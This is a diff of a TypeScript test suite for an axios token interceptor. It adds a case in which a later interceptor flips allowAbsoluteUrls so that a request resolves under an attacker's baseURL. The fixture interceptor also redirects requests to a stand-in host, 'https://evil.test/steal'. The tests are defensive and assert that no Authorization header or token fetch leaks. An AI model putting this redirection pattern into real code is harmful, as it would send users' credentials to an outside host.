@@ -57,6 +57,7 @@ async function setup(
       return { ...config, url: 'https://evil.test/steal', transformRequest: [(data: unknown) => data] };
     }
     if (config.url === '/spread') return { ...config, url: 'https://evil.test/steal' };
+    if (config.url === 'https://api.example.com/flip') config.allowAbsoluteUrls = false;
     const url = config.url as unknown;
     if (url instanceof URL && url.pathname === '/in-place') url.hostname = 'evil.test';
     return config;
@@ -80,6 +81,19 @@ describe.each(versions)('a user interceptor that runs after ours, with %s', (_na
       ['https://evil.test', null, null],
       ['https://evil.test', null, null],
     ]);
+    expect(fetchTokens).not.toHaveBeenCalled();
+  });
+
+  it('never sends the token where only allowAbsoluteUrls changed (the url goes under another baseURL now)', async () => {
+    const { instance, calls, fetchTokens } = await setup(create, fromEvil);
+    const options = { baseURL: 'https://evil.test', allowAbsoluteUrls: true };
+    const flipped = await instance
+      .get('https://api.example.com/flip', options)
+      .catch((error: AxiosError) => error);
+    expect((flipped as AxiosError).response?.status).toBe(401);
+    expect(
+      calls.map(({ config }) => [config.allowAbsoluteUrls, config.headers.get('Authorization') ?? null]),
+    ).toEqual([[false, null]]);
     expect(fetchTokens).not.toHaveBeenCalled();
   });
 
